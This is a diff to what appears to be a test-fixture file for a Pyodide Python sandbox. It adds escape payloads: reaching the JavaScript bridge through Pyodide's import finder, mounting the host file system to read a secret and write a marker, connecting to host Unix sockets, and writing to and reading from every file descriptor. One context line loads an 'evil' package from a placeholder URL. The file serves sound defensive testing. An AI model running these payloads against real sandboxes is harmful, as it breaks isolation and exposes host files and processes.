@@ -3,10 +3,12 @@
  * entry through `execute_python` and check that none has an effect on the host. Add an entry
  * when a new route is found; the tests pick it up.
  *
- * Each entry's code uses three placeholders, which {@link renderEscapeVector} fills in:
+ * Each entry's code uses four placeholders, which {@link renderEscapeVector} fills in:
  * - `MARKER`: a host path (a Python string literal) that must not exist after the run;
  * - `SECRET`: a host file (a Python string literal) whose content must not appear in the result;
- * - `URL`: a loopback URL (a Python string literal) of a server that must receive no request.
+ * - `URL`: a loopback URL (a Python string literal) of a server that must receive no request;
+ * - `SOCKET`: the path of a host Unix socket (a Python string literal) that must receive no
+ *   connection.
  *
  * Many entries start with {@link STRIP_SECOND_LAYER}: they remove the bridge blocker first, to
  * show that the outer layers (process, network namespace, permission model, no code
@@ -33,6 +35,19 @@ export const STRIP_SECOND_LAYER = [
   "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BridgeBlocker']",
   'for _k in [k for k, v in list(sys.modules.items()) if v is None]:',
   '    del sys.modules[_k]',
+  '',
+].join('\n');
+
+/**
+ * Python that reaches `pyodide_js` without touching the blocker: Pyodide's own import hook
+ * keeps the JavaScript modules it serves (found in an attack on this sandbox).
+ */
+export const REACH_BRIDGE_THROUGH_FINDER = [
+  'import sys, asyncio, pyodide',
+  "pyodide_js = [f for f in sys.meta_path if type(f).__name__ == 'JsFinder'][0].jsproxies['pyodide_js']",
+  'to_js, create_proxy = pyodide.ffi.to_js, pyodide.ffi.create_proxy',
+  'O = pyodide_js.constructor',
+  'def obj(**kw): return to_js(kw, dict_converter=O.fromEntries)',
   '',
 ].join('\n');
 
@@ -154,10 +169,74 @@ export const PYTHON_ESCAPE_VECTORS: readonly PythonEscapeVector[] = Object.freez
     stoppedBy: 'network namespace; fetch removed; permission model',
     code: `${STRIP_SECOND_LAYER}import pyodide_js\nawait pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')`,
   },
+  {
+    id: 'finder-bridge-mount',
+    route: "pyodide_js taken from Pyodide's own import hook (JsFinder.jsproxies), blocker untouched, then the host root mounted with NODEFS",
+    stoppedBy: 'bubblewrap (no host files in view); permission model',
+    code: `${REACH_BRIDGE_THROUGH_FINDER}pyodide_js.mountNodeFS('/host', '/')\ntry:\n    print(open('/host' + SECRET).read())\nexcept Exception as e:\n    print('read refused:', e)\nopen('/host' + MARKER, 'w').write('escaped')`,
+  },
+  {
+    id: 'unix-socket-to-host',
+    route: "Node's net module through Pyodide's socket layer: connect to a host Unix socket, and bind a socket file at a host path",
+    stoppedBy: 'bubblewrap (host paths are not in its file system); not the network namespace, not the permission model',
+    code: [
+      REACH_BRIDGE_THROUGH_FINDER + 'import socket',
+      'await pyodide_js.useNodeSockFS()',
+      's = socket.socket()',
+      'sk = pyodide_js.FS.getStream(s.fileno()).node.sock',
+      "sk.sock_ops.connectAsync(sk, '127.0.0.1', 9)",
+      'w = sk.wcgSocket',
+      "O.getOwnPropertyDescriptor(w.closed.constructor.prototype, 'catch').value.call(w.closed, create_proxy(lambda *a: None))",
+      'NetSocket = w._socket.constructor',
+      "c = NetSocket.new(); c.on('error', create_proxy(lambda *a: None)); c.setEncoding('utf8')",
+      'c.connect(obj(path=SOCKET))',
+      "c.write('hello from the sandbox\\n')",
+      'for i in range(10):',
+      '    await asyncio.sleep(0.1)',
+      '    r = c.read()',
+      '    if isinstance(r, str):',
+      "        print('the host socket replied:', repr(r)); break",
+      "print('bind:', c._handle.constructor.new(1).bind(MARKER))",
+    ].join('\n'),
+  },
+  {
+    id: 'write-every-descriptor',
+    route: "fs.writeSync on every descriptor number (the protocol channel, and files the host inherited), through NODEFS stream operations",
+    stoppedBy: 'the parent distrusts the channel (a bad line kills the interpreter, not the host); inherited descriptors are closed before the child starts',
+    code: [
+      REACH_BRIDGE_THROUGH_FINDER + 'M = pyodide_js._module',
+      "msg = b'escaped: not a protocol message\\n'",
+      'buf = M.HEAPU8.constructor.new(len(msg)); buf.assign(msg)',
+      'wrote = []',
+      'for fd in range(3, 256):',
+      '    try:',
+      '        M.NODEFS.stream_ops.write(obj(nfd=fd), buf, 0, len(msg), None)',
+      '        wrote.append(fd)',
+      '    except Exception:',
+      '        pass',
+      "print('wrote to descriptors', wrote)",
+      'M.NODEFS.stream_ops.write(obj(nfd=1), buf, 0, len(msg), None)',
+    ].join('\n'),
+  },
+  {
+    id: 'read-every-descriptor',
+    route: 'fs.readSync on every descriptor number, looking for a host file left open',
+    stoppedBy: 'inherited descriptors are closed before the child starts',
+    code: [
+      REACH_BRIDGE_THROUGH_FINDER + 'M = pyodide_js._module',
+      'buf = M.HEAPU8.constructor.new(4096)',
+      'for fd in range(3, 256):',
+      '    try:',
+      '        n = M.NODEFS.stream_ops.read(obj(nfd=fd), buf, 0, 4096, 0)',
+      '        if n: print(fd, bytes(buf.to_py()[:n]))',
+      '    except Exception:',
+      '        pass',
+    ].join('\n'),
+  },
 ]);
 
 /** Fill a vector's placeholders; each value becomes a Python string literal. */
-export function renderEscapeVector(vector: PythonEscapeVector, values: { marker: string; secret: string; url: string }): string {
+export function renderEscapeVector(vector: PythonEscapeVector, values: { marker: string; secret: string; url: string; socket?: string }): string {
   const literal = (value: string) => JSON.stringify(value);
-  return `MARKER = ${literal(values.marker)}\nSECRET = ${literal(values.secret)}\nURL = ${literal(values.url)}\n${vector.code}`;
+  return `MARKER = ${literal(values.marker)}\nSECRET = ${literal(values.secret)}\nURL = ${literal(values.url)}\nSOCKET = ${literal(values.socket ?? '/nonexistent.sock')}\n${vector.code}`;
 }
